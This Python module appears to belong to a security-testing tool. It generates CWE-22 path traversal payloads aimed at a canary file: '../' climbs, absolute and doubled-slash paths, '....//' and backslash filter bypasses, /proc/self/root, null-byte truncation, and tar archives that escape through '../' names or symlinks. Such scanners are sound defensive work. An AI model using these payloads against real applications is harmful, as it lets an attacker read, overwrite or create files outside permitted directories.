"""File paths (CWE-22): a file outside is read, overwritten or made.

The files outside exist without a suffix and with common ones, for applications that append theirs.
"""

from __future__ import annotations

import io
import tarfile
from collections.abc import Callable, Iterable

from stockade.tools.attack.model import Evidence, Payload, Technique
from stockade.tools.attack.payloads import Aim

__all__ = ["SUFFIXES", "TECHNIQUES"]

SUFFIXES = ("", ".txt", ".html", ".json", ".csv", ".md", ".log", ".yaml", ".pdf", ".png")
_TO_THE_ROOT = "../" * 16


def _existing(id: str, spell: Callable[[str], str], *, representative: bool = False) -> Technique:
    """It shows the canary, or overwrites it."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        return (Payload(spell(f"{aim.outside}/canary"), Evidence((aim.canary,), "canary")),)

    return Technique(id, make, representative)


def _folder(id: str, spell: Callable[[str], str], *, representative: bool = False) -> Technique:
    """It shows what lies in the folder outside."""
    return Technique(
        id, lambda aim: (Payload(spell(aim.outside), Evidence((aim.listed,))),), representative
    )


def _tar(id: str, *members: tuple[str, str]) -> Technique:
    """An archive makes a file: members are (name, target), of a link where there is a target."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        names = {"FILE": f"{aim.outside}/{aim.mark}", "OUTSIDE": aim.outside, "MARK": aim.mark}
        filled = [tuple(_fill(text, names) for text in member) for member in members]
        return (Payload(_archive(filled, aim.content), Evidence((), aim.mark, aim.content)),)

    return Technique(id, make, representative=True, source="file")


def _fill(text: str, names: dict[str, str]) -> str:
    for name, value in names.items():
        text = text.replace(name, value)
    return text


def _archive(members: Iterable[tuple[str, ...]], content: str) -> str:
    """A tar archive, which is ASCII text as long as all in it is."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, target in members:
            member = tarfile.TarInfo(name)
            if target:
                member.type, member.linkname = tarfile.SYMTYPE, target
                archive.addfile(member)
            else:
                member.size = len(content)
                archive.addfile(member, io.BytesIO(content.encode()))
        size = made.tell()
    return made.getvalue()[: size + 1024].decode()


def _new(id: str, spell: Callable[[str], str]) -> Technique:
    """It makes a file."""

    def make(aim: Aim) -> tuple[Payload, ...]:
        return (Payload(spell(f"{aim.outside}/{aim.mark}"), Evidence((), aim.mark)),)

    return Technique(id, make)


TECHNIQUES = (
    _existing("path.climb", lambda file: _TO_THE_ROOT + file[1:], representative=True),
    _existing("path.absolute", lambda file: file, representative=True),
    _existing("path.absolute-double", lambda file: "/" + file.replace("/", "//")),
    _existing("path.absolute-dots", lambda file: "/./" + file[1:].replace("/", "/./")),
    _existing("path.climb-double", lambda file: ".//..//" + "..//" * 16 + file[1:]),
    _existing("path.climb-twice", lambda file: "....//" * 16 + file[1:]),
    _existing("path.process-root", lambda file: "/proc/self/root" + file),
    _existing("path.climb-backslash", lambda file: ("..\\" * 16) + file[1:].replace("/", "\\")),
    _existing("path.null", lambda file: _TO_THE_ROOT + file[1:] + "\0.txt"),
    _new("path.new-climb", lambda file: _TO_THE_ROOT + file[1:]),
    _new("path.new-absolute", lambda file: file),
    _folder("path.folder-climb", lambda folder: _TO_THE_ROOT + folder[1:], representative=True),
    _folder("path.folder-absolute", lambda folder: folder),
    _tar("path.tar-climb", (_TO_THE_ROOT + "FILE", "")),
    _tar("path.tar-absolute", ("FILE", "")),
    _tar("path.tar-link", ("way", "OUTSIDE"), ("way/MARK", "")),
)
